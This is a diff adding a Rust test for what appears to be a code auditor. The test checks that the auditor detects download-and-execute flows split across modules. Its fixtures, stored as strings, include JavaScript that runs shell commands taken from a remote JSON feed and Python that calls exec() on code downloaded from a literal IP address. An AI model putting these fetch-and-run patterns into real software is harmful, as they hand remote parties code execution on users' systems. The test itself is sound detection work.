@@ -1602,3 +1602,43 @@ fn what_a_pattern_matches_does_not_run() {
         "import os\ndef inc_path(inc):\n    inc = inc if inc.startswith(('/', '~')) else os.path.join(\"~/.ssh\", inc)\n    return inc\n",
     );
 }
+
+#[test]
+fn flows_that_cross_into_a_local_module_are_followed() {
+    let runner = "const cp = require('child_process');\nfunction runStep(step) {\n  const shell = process.env.SHELL || '/bin/sh';\n  return cp.spawnSync(shell, ['-c', step.run]).status === 0;\n}\nconst RUNNERS = { script: runStep };\nfunction applyAll(steps) {\n  for (const step of steps || []) { RUNNERS[step.kind](step); }\n}\nmodule.exports = { applyAll };\n";
+    let main = "const https = require('https');\nconst { applyAll } = require('./lib/steps');\nhttps.get('https://feed.example/v1.json', (res) => {\n  let body = '';\n  res.on('data', (c) => { body += c; });\n  res.on('end', () => applyAll(JSON.parse(body).steps));\n});\n";
+    let found = audit_with(
+        &[
+            ("scripts/main.js", main.as_bytes()),
+            ("scripts/lib/steps.js", runner.as_bytes()),
+        ],
+        &[],
+    );
+    assert!(has(&found, Rule::DownloadExec), "{found:?}");
+    // Each half alone is no attack.
+    let alone = audit_with(&[("scripts/lib/steps.js", runner.as_bytes())], &[]);
+    assert!(!has(&alone, Rule::DownloadExec), "{alone:?}");
+    // Python: a module's download, run by the script that imports it.
+    let fetch = "import urllib.request\n\ndef latest():\n    return urllib.request.urlopen('https://203.0.113.9/p').read().decode()\n";
+    let run = "from feed import latest\n\nexec(latest())\n";
+    let found = audit_with(
+        &[
+            ("scripts/run.py", run.as_bytes()),
+            ("scripts/feed.py", fetch.as_bytes()),
+        ],
+        &[],
+    );
+    assert!(has(&found, Rule::DownloadExec), "{found:?}");
+    // A module that runs what it is given, given constants, is a helper.
+    let helper =
+        "import subprocess\n\ndef run(cmd):\n    subprocess.run(cmd, shell=True, check=True)\n";
+    let build = "from helpers import run\n\nrun('cargo build --release')\nrun('cargo test')\n";
+    let found = audit_with(
+        &[
+            ("scripts/build.py", build.as_bytes()),
+            ("scripts/helpers.py", helper.as_bytes()),
+        ],
+        &[],
+    );
+    assert!(found.is_empty(), "{found:?}");
+}
